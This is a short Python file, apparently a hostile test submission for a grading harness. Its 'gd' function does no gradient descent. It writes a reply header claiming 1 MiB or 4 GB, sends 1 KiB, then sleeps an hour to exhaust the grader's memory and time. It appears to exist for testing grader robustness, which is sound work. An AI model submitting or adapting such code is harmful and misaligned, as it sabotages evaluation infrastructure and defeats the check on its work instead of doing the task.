# attacked: gd
# measured: the grader's memory and time
# Starts its own reply and never finishes it: a header announcing 1 MiB, 1 KiB of it, then
# silence (or a header announcing 4 GB, for array inputs).
import os, struct, sys, time
def gd(grad, x0, eta, num_steps):
    size = 2**20 if isinstance(x0, (int, float)) else 2**32 - 1
    os.write(int(sys.argv[2]), struct.pack("<4sII", b"AGW1", size, 0) + b"[" * 1024)
    time.sleep(3600)
